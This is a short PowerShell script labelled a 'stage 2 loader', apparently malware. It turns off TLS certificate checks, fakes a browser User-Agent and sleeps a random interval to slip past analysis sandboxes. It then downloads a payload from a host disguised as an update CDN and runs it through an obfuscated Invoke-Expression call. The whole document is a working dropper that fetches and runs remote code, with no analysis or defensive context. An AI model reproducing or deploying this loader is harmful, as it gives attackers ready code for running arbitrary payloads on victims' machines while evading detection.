# stage 2 loader
Add-Type -AssemblyName System.Net.Http
$handler = New-Object System.Net.Http.HttpClientHandler
$handler.ServerCertificateCustomValidationCallback = { $true }
$client = New-Object System.Net.Http.HttpClient($handler)
$client.DefaultRequestHeaders.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')

$sleep = Get-Random -Minimum 30 -Maximum 90
Start-Sleep -Seconds $sleep

$stage = $client.GetStringAsync('https://cdn-update.example.net/s2.txt').Result
&(gcm i*x) $stage
